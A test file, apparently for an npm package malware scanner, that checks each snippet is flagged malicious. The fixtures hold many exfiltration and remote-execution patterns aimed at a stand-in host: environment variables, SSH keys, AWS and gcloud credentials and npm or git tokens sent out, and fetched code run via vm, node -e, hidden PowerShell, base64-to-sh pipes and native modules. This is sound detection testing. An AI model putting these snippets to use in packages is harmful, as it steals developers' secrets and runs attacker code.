import { describe, expect, test } from 'vitest';
import { scanPackage } from '../src/index.js';

/** One deed in many words: clients, readers and runners that do the same by other names. Each is tried with nothing in it, too. */
const manifest = JSON.stringify({
  name: 'tallyboard',
  version: '1.0.0',
  description: 'Counts things',
  main: 'index.js',
});
const HOST = 'https://collect.invalid/v1';

const verdictOf = async (code: string): Promise<string> =>
  (await scanPackage({ files: { 'package.json': manifest, 'index.js': code } })).verdict;

const clients: Readonly<Record<string, (data: string) => string>> = {
  'a form of request': data => `require('request').post('${HOST}').form(${data});`,
  'a client that is made of a method': data => `require('bent')('POST', 'https://collect.invalid')('/x', ${data});`,
  'a chain of calls': data => `require('centra')('${HOST}', 'POST').body(${data}).send();`,
  ofetch: data => `require('ofetch').ofetch('${HOST}', { method: 'POST', body: ${data} });`,
  unfetch: data => `require('unfetch')('${HOST}', { method: 'POST', body: JSON.stringify(${data}) });`,
  'a client of restify': data =>
    `require('restify-clients').createJsonClient({ url: 'https://collect.invalid' }).post('/x', ${data}, () => {});`,
  'a mutation': data =>
    `require('graphql-request').request('${HOST}', 'mutation($e: String) { a(e: $e) }', { e: JSON.stringify(${data}) });`,
  'the client of a desktop program': data =>
    `const q = require('electron').net.request({ method: 'POST', url: '${HOST}' }); q.end(JSON.stringify(${data}));`,
  'another run-time': data =>
    `Deno.connect({ hostname: 'collect.invalid', port: 4444 }).then(c => c.write(new TextEncoder().encode(JSON.stringify(${data}))));`,
  'a remote procedure': data =>
    `const g = require('@grpc/grpc-js'); new g.Client('collect.invalid:443', g.credentials.createInsecure()).makeUnaryRequest('/a/b', x => x, x => x, JSON.stringify(${data}), () => {});`,
  'a cookie': data =>
    `require('https').get({ host: 'collect.invalid', headers: { cookie: 'e=' + encodeURIComponent(JSON.stringify(${data})) } });`,
};

describe('the environment leaves', () => {
  test.each(Object.entries(clients))('by %s', async (_name, send) => {
    expect(await verdictOf(send('process.env'))).toBe('malicious');
    expect(['clean', 'note']).toContain(await verdictOf(send('{ count: 1 }')));
  });

  test.each(['Bun.env', 'Deno.env.toObject()', `require('child_process').execSync('set').toString()`])(
    'under another name: %s',
    async data => {
      expect(await verdictOf(`fetch('${HOST}', { method: 'POST', body: JSON.stringify(${data}) });`)).toBe('malicious');
    },
  );
});

describe('a secret is read', () => {
  const sends = (data: string): string =>
    `const fs = require('fs'), os = require('os'), h = os.homedir();\n(async () => { const d = ${data}; await fetch('${HOST}', { method: 'POST', body: d }); })();`;

  test.each([
    ['loaded as a module', `require(h + '/.config/gcloud/application_default_credentials.json')`],
    ['below a home that is expanded', `fs.readFileSync(require('untildify')('~/.ssh/id_rsa'))`],
    [
      'printed by a command of Windows',
      `require('child_process').execSync('type %USERPROFILE%\\\\.ssh\\\\id_rsa').toString()`,
    ],
    ['taken out of the keychain', `await require('keytar').findCredentials('npm')`],
    [
      'asked of git',
      `require('child_process').execSync('git credential fill', { input: 'host=github.com' }).toString()`,
    ],
    ['asked of npm', `require('child_process').execSync('npm config get //packages.invalid/:_authToken').toString()`],
  ])('%s', async (_name, data) => {
    expect(await verdictOf(sends(data))).toBe('malicious');
  });

  test('into bytes, by the number of an open file', async () => {
    const read = (path: string): string =>
      `const fs = require('fs'), h = require('os').homedir();\nconst file = fs.openSync(${path});\nconst bytes = Buffer.alloc(4096);\nfs.readSync(file, bytes);\nfetch('${HOST}', { method: 'POST', body: bytes });`;
    expect(await verdictOf(read(`h + '/.ssh/id_rsa'`))).toBe('malicious');
    expect(['clean', 'note']).toContain(await verdictOf(read(`__dirname + '/words.txt'`)));
  });

  test.each([
    [
      'a copy of it',
      (path: string) =>
        `const fs = require('fs'), h = require('os').homedir(), other = require('os').tmpdir() + '/a.bin';\nfs.copyFileSync(${path}, other);\nsetTimeout(() => fetch('${HOST}', { method: 'POST', body: fs.readFileSync(other) }), 900);`,
    ],
    [
      'a copy of it, later',
      (path: string) =>
        `const fs = require('fs'), h = require('os').homedir(), other = require('os').tmpdir() + '/a.bin';\nfs.copyFile(${path}, other, () => fs.readFile(other, (_, body) => fetch('${HOST}', { method: 'POST', body })));`,
    ],
    [
      'a handle of it',
      (path: string) =>
        `const { open } = require('fs/promises'), h = require('os').homedir();\n(async () => {\n  const file = await open(${path});\n  const { buffer } = await file.read(Buffer.alloc(4096), 0, 4096, 0);\n  await fetch('${HOST}', { method: 'POST', body: buffer });\n})();`,
    ],
  ])('by %s', async (_name, read) => {
    expect(await verdictOf(read(`h + '/.aws/credentials'`))).toBe('malicious');
    expect(['clean', 'note']).toContain(await verdictOf(read(`__dirname + '/words.txt'`)));
  });

  test.each([`require('./words.json')`, `require('child_process').execSync('git rev-parse HEAD').toString()`])(
    'but not by %s',
    async data => {
      expect(['clean', 'note']).toContain(await verdictOf(sends(data)));
    },
  );
});

describe('what another machine gave is run', () => {
  const gives = (text: string): string => `fetch('${HOST}').then(r => r.text()).then(t => { ${text}; });`;

  test.each([
    ['as the body of a function with parameters', `require('vm').compileFunction(t, ['require'])(require)`],
    ['in another machine for code', `new (require('vm2').NodeVM)().run(t)`],
    [
      'by an inspector',
      `const s = new (require('inspector').Session)(); s.connect(); s.post('Runtime.evaluate', { expression: t })`,
    ],
    ['by a window', `require('electron').BrowserWindow.getAllWindows()[0].webContents.executeJavaScript(t)`],
    ['by what a loader compiles with', `require.extensions['.x'] = m => m._compile(t, 'x')`],
    ['as the input of node', `require('child_process').spawn('node').stdin.end(t)`],
    ['as the input of Python', `require('child_process').spawn('python3', ['-']).stdin.end(t)`],
    ['as a word of node', `require('child_process').exec('node -e ' + JSON.stringify(t))`],
    ['as a word of Python', `require('child_process').exec(\`python3 -c '\${t}'\`)`],
    ['encoded, as a word of PowerShell', `require('child_process').exec('powershell -w hidden -enc ' + t)`],
    ['through a pipe', `require('child_process').exec('echo ' + t + ' | base64 -d | sh')`],
    ['as a module it was written as', `require('fs').writeFileSync('/tmp/a.ts', t); require('/tmp/a.ts')`],
    ['as one that is imported', `require('fs').promises.writeFile('/tmp/m.mjs', t).then(() => import('/tmp/m.mjs'))`],
    ['in a thread', `require('fs').writeFileSync('/tmp/a.js', t); new (require('worker_threads').Worker)('/tmp/a.js')`],
    [
      'as a library of the system',
      `require('fs').writeFileSync('/tmp/a.node', Buffer.from(t, 'base64')); process.dlopen(module, '/tmp/a.node')`,
    ],
  ])('%s', async (_name, text) => {
    expect(await verdictOf(gives(text))).toBe('malicious');
  });

  test.each([
    ['written beside code that is run', `require('fs').writeFileSync('/tmp/a.json', t); require('/tmp/b.ts')`],
    ['an argument of a script', `require('child_process').execFile('node', ['build.js', t.length])`],
    ['the input of what only sorts', `require('child_process').spawn('sort').stdin.end(t)`],
  ])('but not %s', async (_name, text) => {
    expect(['clean', 'note']).toContain(await verdictOf(gives(text)));
  });
});
